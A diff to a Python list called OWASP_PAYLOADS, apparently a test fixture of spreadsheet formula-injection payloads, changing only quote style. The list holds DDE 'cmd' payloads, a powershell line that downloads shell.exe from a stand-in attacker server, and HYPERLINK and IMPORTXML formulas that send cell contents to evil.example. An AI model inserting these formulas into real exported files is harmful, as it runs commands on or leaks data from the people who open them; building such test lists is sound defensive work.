@@ -13,10 +13,10 @@ OWASP_PAYLOADS = [
     "=cmd|' /C calc'!A0",
     "=cmd|' /C notepad'!'A1'",
     "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
-    "=HYPERLINK(\"http://evil.example/?leak=\"&A1&A2, \"Error: please click for details\")",
-    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
-    "=IMPORTRANGE(\"https://docs.google.com/spreadsheets/d/X\", \"sheet1!A1:B2\")",
-    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for details")',
+    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
+    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/X", "sheet1!A1:B2")',
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
     "=1+1",
     "+1+1",
     "-1+1",
@@ -30,7 +30,7 @@ OWASP_PAYLOADS = [
     "\r\n=cmd|' /C calc'!A0",
     " =cmd|' /C calc'!A0",
     "\x00=cmd|' /C calc'!A0",
-    '"=cmd|\' /C calc\'!A0"',
+    "\"=cmd|' /C calc'!A0\"",
     "=cmd|' /C calc'!A0,=cmd|' /C calc'!A0",
 ]
 
